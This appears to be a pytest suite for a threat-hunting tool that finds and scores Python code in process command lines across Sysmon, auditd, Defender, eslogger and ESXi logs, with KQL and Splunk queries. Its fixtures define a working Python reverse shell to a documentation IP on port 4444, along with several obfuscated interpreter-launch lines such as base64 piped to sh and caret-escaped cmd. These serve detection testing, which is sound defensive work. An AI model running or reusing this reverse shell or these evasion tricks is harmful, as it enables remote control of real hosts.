"""The Python of process tables: each distinct program read once, no row lost, and what was read as tables."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import antivenom
from antivenom import catalogue
from antivenom.hunting import Hunt, run
from antivenom.logs import Logs, Wants
from antivenom.programs import pool, reading, signs, tables
from antivenom.programs.plain import Key, packed, plain, read, unpacked
from antivenom.programs.schemas import READ, TABLES
from antivenom.pycode import explain
from antivenom.pycode.command import programs as known
from antivenom.pycode.reading import ENDED
from antivenom.source import SourceText
from antivenom.tables import EVENT_COLUMN

ROOT = Path(__file__).parents[1]
LOGS = ROOT / "examples" / "logs"
SAMPLES = (
    *sorted((ROOT / "tests" / "cases" / "pycode").glob("*.jsonl")),
    *sorted((ROOT.parent / "shared" / "data" / "pycode").glob("*.jsonl")),
)

SHELL = "import socket,os,pty;s=socket.create_connection(('192.0.2.9',4444));[os.dup2(s.fileno(),n) for n in (0,1,2)];"
EVIL = f"{SHELL}pty.spawn('/bin/sh')"


def table(*rows: dict[str, Any]) -> pa.Table:
    """A process table of starts on Linux."""
    usual = {"activity_name": "Launch", "device.os.type": "Linux"}
    texts = sorted(READ - {"process.argv"})
    made: dict[str, Any] = {name: pa.array([{**usual, **row}.get(name) for row in rows], pa.string()) for name in texts}
    made["process.argv"] = pa.array([row.get("process.argv") for row in rows], pa.list_(pa.string()))
    return pa.table({**made, EVENT_COLUMN: pa.array(range(10, 10 + len(rows)), pa.int64())})


def line(text: str | None, **more: Any) -> dict[str, Any]:
    return {"process.cmd_line": text, **{name.replace("__", "."): value for name, value in more.items()}}


# Rows and programs


def test_a_program_is_read_once_for_all_its_rows(monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[Key] = []
    monkeypatch.setattr(reading, "read_all", lambda keys, processes: asked.extend(keys) or [read(key) for key in keys])
    rows = [line(f'python3 -c "{EVIL}"')] * 5 + [line("ls -l")] * 3 + [line(None), line("")]
    made = reading.read(table(*rows))
    assert [key.command for key in asked] == [f'python3 -c "{EVIL}"']
    assert made.verdicts().to_pylist() == ["malicious"] * 5 + [None] * 5
    assert (made.account.rows, made.account.lines, made.account.read) == (8, 2, 1)
    assert (made.account.python, made.account.programs) == (5, 1)
    assert made.account.verdicts == {"malicious": 5}


def test_arguments_are_read_apart_where_the_sensor_keeps_them_so() -> None:
    rows = [
        line("python3 -c x=1;print(x) y", process__argv=["python3", "-c", "x=1;print(x)", "y"]),
        line("ignored", process__argv=["python3", "", "a b.py"]),
        line("python3 only.py", process__argv=[]),
    ]
    made = reading.read(table(*rows))
    programs = [made.of_event(number) for number in (10, 11, 12)]
    assert [one.command for one in programs if one] == [
        "python3 -c x=1;print(x) y",
        "python3  a b.py",
        "python3 only.py",
    ]
    assert [one.parts[0].target for one in programs if one] == ["", "", "only.py"]


def test_only_starts_are_read() -> None:
    made = reading.read(
        table(line("python3 a.py", activity_name="Terminate"), line("python3 a.py", activity_name=None))
    )
    assert made.account.rows == 0
    assert made.of_event(10) is None


def test_events_without_a_row_have_no_program() -> None:
    made = reading.read(table(line("python3 a.py")))
    assert made.of_event(9) is None
    assert made.of_event(11) is None
    assert made.of_event(10) is not None


def test_an_empty_table_is_read() -> None:
    made = reading.read(table())
    assert made.verdicts().to_pylist() == []
    assert made.at_least("notable") == []


def test_a_renamed_interpreter_is_known_by_its_original_name() -> None:
    command = f'C:\\Users\\Public\\upd.exe -c "{EVIL}"'
    rows = [
        line(command, device__os__type="Windows", process__original_file_name="python.exe"),
        line("C:\\Users\\Public\\upd.exe tool", device__os__type="Windows", process__original_file_name="pythonw.exe"),
        line("C:\\Users\\Public\\upd.exe tool", device__os__type="Windows"),
    ]
    made = reading.read(table(*rows))
    assert made.verdicts().to_pylist()[0] == "malicious"
    assert made.of_event(11) is not None
    assert made.of_event(12) is None


def test_the_parent_is_looked_at_where_the_code_comes_from_a_pipe() -> None:
    parent = f"""sh -c 'echo "{EVIL.replace("'", "")}" | python3'"""
    rows = [
        line("python3", actor__process__cmd_line=parent),
        line("python3", actor__process__cmd_line="-bash"),
        line("python3"),
        line("python3 a.py", actor__process__cmd_line=parent),
    ]
    made = reading.read(table(*rows))
    fed, typed, alone, script = (made.of_event(number) for number in range(10, 14))
    assert fed is not None
    assert fed.layers
    assert typed is alone
    assert typed is not None
    assert not typed.layers
    assert script is not None
    assert script.parts[0].target == "a.py"


def test_a_budget_that_ran_out_is_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    ended, other = "the evaluation was stopped after its budget of steps", "a note of another kind"

    def noted(keys: Sequence[Key], processes: int | None) -> list[antivenom.Program]:
        programs = [read(key) for key in keys]
        for program in programs:
            program.notes = (ended, other)
        return programs

    monkeypatch.setattr(reading, "read_all", noted)
    made = reading.read(table(line("python3 a.py"), line("python3 a.py"), line("python3 b.py")))
    assert made.account.ended == {ended: 2}
    assert ended in ENDED.values()


def test_at_least_takes_a_verdict_and_the_worse_ones() -> None:
    made = reading.read(table(line("python3 -c 'print(1)'"), line(f'python3 -c "{EVIL}"')))
    assert made.at_least("malicious") == [11]
    assert made.at_least("notable") == [11]
    assert made.at_least("benign") == [10, 11]


# The cheap test


def samples() -> Iterator[str]:
    """Every line of the cases and samples, as text and as arguments."""
    for path in SAMPLES:
        for text in path.read_text(encoding="utf-8").splitlines():
            row = json.loads(text)
            for held in (row.get(name) for name in ("argv", "cmdline", "command", "shell")):
                if held:
                    command = held if isinstance(held, str) else "".join(f"\0{word}" for word in held)
                    yield command.encode("utf-8", "replace").decode()


def lost(lines: Sequence[str]) -> list[str]:
    """Lines that the cheap test leaves out though they hold Python."""
    passed = signs.mask(pa.array(lines, pa.string())).to_pylist()
    out = [text for text, can in zip(lines, passed, strict=True) if not can]
    return [text for text in out if explain(text[1:].split("\0") if text[:1] == "\0" else text).parts]


def test_the_cheap_test_loses_no_sample() -> None:
    lines = list(dict.fromkeys(samples()))
    assert len(lines) > 500
    assert lost(lines) == []


ENDINGS = (
    "", " x.py", " -c 'import os;os.getcwd()'", " install x", " run x", " --version", " -m x", " -ex 'python print(1)'",
    " --from git+https://192.0.2.7/x.git x",
)  # fmt: skip


def test_the_cheap_test_loses_no_program_that_is_known() -> None:
    names = [name for name in known._TABLE if name.isprintable()]
    lines = [f"{before}{name}{end}" for name in names for before in ("", "/usr/bin/") for end in ENDINGS]
    assert lost(lines) == []


@pytest.mark.parametrize(
    "text",
    [
        "p''ython3 -c 1",
        'C:\\Tools\\"v"im.exe -c "py3 print(1)"',
        "g\\db -ex 'python print(1)'",
        'cmd /c "p^y^t^hon -c 1"',
        "/usr/bin/p?thon3 x",
        "a=thon; py$a x",
        "{p,}ython3 x",
        "echo cHl0aG9uMyB4 | base64 -d | sh",
        "PowerShell -e cAB5AHQAaABvAG4A",
        "set x=pyt&& call %x%hon a",
        "type=EXECVE msg=audit(1.2:3): argc=1 a0=707974686F6E33",
        "/tmp/kworker -c 'import socket'",
        "/tmp/kworker -c\x1cimport\x1csocket",
        "uvx --from git+https://192.0.2.7/x.git x",
        "\0/tmp/kworker\0-uc\0import socket",
        "\0/tmp/kworker\0-c\0__import__('os')",
        "UV pip install x",
        "/opt/pipx run x",
        "C:\\Python\\Scripts\\PIP.EXE install x",
        "vi +'py3 print(1)'",
        "/usr/bin/vim.basic -c ':py print(1)'",
        "osascript -e 'do shell script \"python3 x\"'",
        "easy_install-3.8 x",
        "printf '\\160ython' > x",
    ],
)
def test_lines_the_cheap_test_lets_through(text: str) -> None:
    assert signs.mask(pa.array([text])).to_pylist() == [True]


@pytest.mark.parametrize(
    "text",
    [
        "ls -la /etc",
        "/usr/sbin/sshd -D -R",
        "/usr/bin/git -C /srv/src status --porcelain",
        "gcc -O2 -c a.c -o build/a.o",
        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
        "robocopy C:\\a C:\\b /mir",
        "mscorsvw.exe -Pipe 290",
        'bash -c "run-parts /etc/cron.daily"',
        "",
        None,
    ],
)
def test_lines_the_cheap_test_leaves_out(text: str | None) -> None:
    assert signs.mask(pa.array([text], pa.string())).to_pylist() == [False]


PIECES = st.lists(
    st.sampled_from(
        [*"py'\"^\\ |$`(){}%-/.;&<>=\n", "thon", "python3", "pip", " -c ", "import os", "print(1)", "sh", "vim", ".py",
         "base64 -d", "uv", "echo ", "/bin/", "C:\\", ".exe", "cmd /c "]
    ),
    max_size=14,
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(PIECES.map("".join))
def test_the_cheap_test_loses_nothing_that_can_be_written(text: str) -> None:
    assert lost([text]) == []


def test_reading_everything_finds_no_more() -> None:
    lines = list(dict.fromkeys(text for text in samples() if text[0] != "\0"))[:400]
    rows = table(*map(line, lines), line("ls"), line("/usr/sbin/sshd -D"))
    assert reading.read(rows).verdicts().equals(reading.read(rows, every=True).verdicts())


# Several processes


def keys(count: int) -> list[Key]:
    made = [Key(f"python3 -c \"import os;os.system('id {n}')\"", "linux") for n in range(count)]
    return [*made, Key(("python3", "-c", EVIL), "linux"), Key("python3", None, None, "echo 1 | python3")]


def as_dicts(programs: Sequence[antivenom.Program]) -> list[dict[str, object]]:
    return [program.as_dict() for program in programs]


def test_several_processes_read_what_one_reads() -> None:
    given_ = keys(900)
    assert as_dicts(pool.read_all(given_, processes=3)) == as_dicts(pool.read_all(given_, processes=1))


@pytest.mark.parametrize("executable", ["", "/nowhere/python3", "/bin/false", "/bin/cat"])
def test_where_no_helper_works_this_process_reads_all(executable: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "executable", executable)
    given_ = keys(70)
    assert as_dicts(pool.read_all(given_, processes=2)) == as_dicts([read(key) for key in given_])


def test_few_programs_start_no_process(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pool, "_start", lambda: pytest.fail("a process was started"))
    assert len(pool.read_all(keys(20))) == 22


def test_a_script_without_a_guard_runs_once(tmp_path: Path) -> None:
    script = tmp_path / "hunt.py"
    script.write_text(
        "from antivenom.programs import pool\nfrom antivenom.programs.plain import Key\nprint('here')\n"
        "print(len(pool.read_all([Key(f'python3 -c {n}') for n in range(2000)], processes=2)))\n"
    )
    done = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, check=True, timeout=120)
    assert done.stdout.split() == ["here", "2000"]


def test_a_helper_imports_nothing_from_where_it_is_started(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "marshal.py").write_text("")
    (tmp_path / "ast.py").write_text("raise SystemExit('attacker')")
    monkeypatch.chdir(tmp_path)
    assert len(pool.read_all(keys(200), processes=2)) == 202


@pytest.mark.parametrize("key", keys(1), ids=["notable", "malicious", "fed"])
def test_a_program_comes_back_as_it_was(key: Key) -> None:
    program = read(key)
    assert unpacked(key, plain(packed(program))).as_dict() == program.as_dict()


# Tables


@pytest.fixture(scope="module")
def logs() -> Logs:
    return antivenom.open(LOGS)


def kql(text: str, logs: Logs) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = antivenom.query(text, language="kql", logs=logs).to_pylist()
    return rows


def spl(text: str, logs: Logs) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = antivenom.query(text, language="spl", logs=logs).to_pylist()
    return rows


def test_programs_are_grouped_by_fingerprint(logs: Logs) -> None:
    rows = kql("PythonPrograms | where Verdict == 'malicious' | summarize count() by Fingerprint", logs)
    assert rows
    assert all(len(row["Fingerprint"]) == 16 for row in rows)
    assert spl("index=antivenom sourcetype=antivenom:python verdict=malicious | stats count by fingerprint", logs) == [
        {"fingerprint": row["Fingerprint"], "count": row["count_"]} for row in rows
    ]


def test_a_row_of_programs_says_which_process_and_what_it_does(logs: Logs) -> None:
    (row,) = kql("PythonPrograms | where Score > 90 and DeviceName == 'web-01' | take 1", logs)
    assert list(row) == TABLES["PythonPrograms"].names()
    assert row["ProcessId"] == 21266
    assert row["FileName"] == "python3"
    assert row["InitiatingProcessCommandLine"] == "-bash"
    assert "reverse_shell" in json.loads(row["Behaviours"])
    assert "T1059.006" in json.loads(row["AttackTechniques"])
    assert {"kind": "ip", "value": "127.0.0.1"} in json.loads(row["Indicators"])


def test_dynamic_columns_can_be_indexed(logs: Logs) -> None:
    rows = kql("PythonPrograms | where Indicators[0].kind == 'ip' | project a=tostring(Behaviours[0])", logs)
    assert rows
    assert {row["a"] for row in rows} == {"reverse_shell"}


def test_sightings_have_a_row_each(logs: Logs) -> None:
    sightings = kql("PythonSightings | project ProcessId, Rule, Says, Code, Layer, Line, Attack, Score", logs)
    programs = kql("PythonPrograms | project ProcessId, Behaviours", logs)
    assert {row["Rule"] for row in sightings} == {id for row in programs for id in json.loads(row["Behaviours"])}
    shell = next(row for row in sightings if row["Rule"] == "reverse_shell")
    assert (shell["Layer"], shell["Line"]) == (0, 1)
    assert shell["Says"].startswith("It ")
    assert "s.connect" in shell["Code"]


def test_splunk_sees_events_about_python_only_where_they_are_named(logs: Logs) -> None:
    assert {row["index"] for row in spl("index=antivenom OR index=linux | stats count by index", logs)} == {
        "antivenom",
        "linux",
    }
    assert {row["index"] for row in spl("index=* | stats count by index", logs)} == {"linux", "wineventlog", "esxi"}
    assert logs.scan(Wants(splunk=frozenset({"index"}), kinds=None)).readings is None


@pytest.mark.parametrize(
    "search",
    [
        "index=antivenom behaviours=reverse_shell",
        "sourcetype=antivenom:python indicator=127.0.0.1 score>90",
        "index=antivenom reverse_shell",
        "index=antivenom | where verdict=\"malicious\" | search attack=T1059.004",
    ],
)  # fmt: skip
def test_splunk_searches_of_python(search: str, logs: Logs) -> None:
    rows = spl(f"{search} | table host user verdict score summary behaviours fingerprint process", logs)
    assert rows
    assert all(row["verdict"] == "malicious" and "reverse_shell" in row["behaviours"] for row in rows)


def test_a_field_with_several_values_in_one_table_has_them_in_both() -> None:
    events = pa.table({"attack": ["x", None], "host": ["a", "b"], EVENT_COLUMN: pa.array([1, 4], pa.int64())})
    made = pa.table({"attack": [["T1"]], "score": ["9"], EVENT_COLUMN: pa.array([2], pa.int64())})
    assert tables.together(events, made).to_pylist() == [
        {"attack": ["x"], "host": "a", "score": None, EVENT_COLUMN: 1},
        {"attack": ["T1"], "host": None, "score": "9", EVENT_COLUMN: 2},
        {"attack": None, "host": "b", "score": None, EVENT_COLUMN: 4},
    ]


def test_a_detection_may_ask_of_the_readings(logs: Logs) -> None:
    text = SourceText("PythonPrograms | where Verdict == 'malicious'")
    mine = catalogue.find("python-sentinel").with_text("kql", text, id="mine")
    found = run(logs, [mine])
    assert found.findings
    assert {finding.verdict for finding in found.findings} == {"malicious"}


# The hunt


@pytest.fixture(scope="module")
def demo(logs: Logs) -> Hunt:
    return run(logs)


def test_the_first_published_test_is_found_on_every_sensor(demo: Hunt) -> None:
    files = {
        Path(origin.file).name
        for finding in demo.findings
        if "reverse_shell" in finding.behaviours
        for evidence in finding.evidence
        if evidence.detection == "python-code"
        for origin in evidence.origins
    }
    named = {"windows-sysmon.xml", "linux-audit.log", "defender.jsonl", "macos-eslogger.jsonl", "esxi-shell.log"}
    assert files == named


def test_findings_carry_what_was_read(demo: Hunt) -> None:
    finding = next(f for f in demo.findings if "reverse_shell" in f.behaviours)
    evidence = next(e for e in finding.evidence if e.detection == "python-code")
    assert finding.program is not None
    assert (finding.verdict, finding.score, evidence.score) == ("malicious", evidence.score, finding.program.score)
    assert evidence.severity == "high"
    assert evidence.flags == finding.behaviours
    assert {one.value for one in finding.indicators} >= {"127.0.0.1", "4444"}
    assert len(finding.fingerprint) == 16
    document = finding.as_dict()
    assert document["verdict"] == "malicious"
    assert isinstance(document["program"], dict)
    assert set(document["program"]) == {"summary", "sightings", "layers", "indicators", "fingerprint", "notes"}


def test_what_detections_flag_carries_its_verdict_whatever_it_is(demo: Hunt) -> None:
    verdicts = {finding.verdict for finding in demo.findings}
    assert verdicts > {"benign", "suspicious", "malicious"}
    for finding in demo.findings:
        flagged = {evidence.detection for evidence in finding.evidence}
        assert ("python-code" in flagged) is (finding.verdict != "benign")
        assert flagged != {"python-code"} or finding.verdict in ("suspicious", "malicious")


def test_least_says_which_verdicts_are_findings(logs: Logs) -> None:
    counts = [
        len(run(logs, (), programs=True, least=least).findings) for least in ("notable", "suspicious", "malicious")
    ]
    assert counts == sorted(counts, reverse=True)
    assert counts[0] > counts[2] > 0


def test_without_programs_nothing_is_read(logs: Logs) -> None:
    found = run(logs, programs=False)
    assert found.reading is None
    assert found.scan.readings is None
    assert all(finding.program is None and finding.verdict is None for finding in found.findings)
    assert not any(
        e.detection in ("python-code", "python-malicious-program") for f in found.findings for e in f.evidence
    )
    left_out = next(one for one in found.runs if one.detection.id == "python-malicious-program")
    assert left_out.missing == ["the Python of command lines, which was not read"]


def test_named_detections_make_the_only_findings_and_still_carry_readings(logs: Logs) -> None:
    found = run(logs, [catalogue.find("python-sentinel")])
    assert all("python-sentinel" in {e.detection for e in finding.evidence} for finding in found.findings)
    assert any(finding.program for finding in found.findings)


def test_what_lies_outside_makes_no_finding(demo: Hunt) -> None:
    until = sorted(f.time for f in demo.findings if f.time is not None)[2]
    found = run(antivenom.open(LOGS, until=until))
    assert 0 < len(found.findings) < len(demo.findings)
    assert all(f.time is not None and f.time <= until for f in found.findings)
    assert found.reading is not None
    assert demo.reading is not None
    assert found.reading.account.rows < demo.reading.account.rows


def test_the_readings_are_accounted_for(demo: Hunt) -> None:
    assert demo.reading is not None
    account = demo.reading.account
    assert account.rows >= account.python == sum(account.verdicts.values())
    assert account.lines >= account.read >= account.programs > 0
    assert sum(demo.reading.by_product.values()) == len(demo.reading.flagged)
    assert set(demo.reading.by_product) == {"windows", "auditd", "defender", "eslogger", "esxi"}
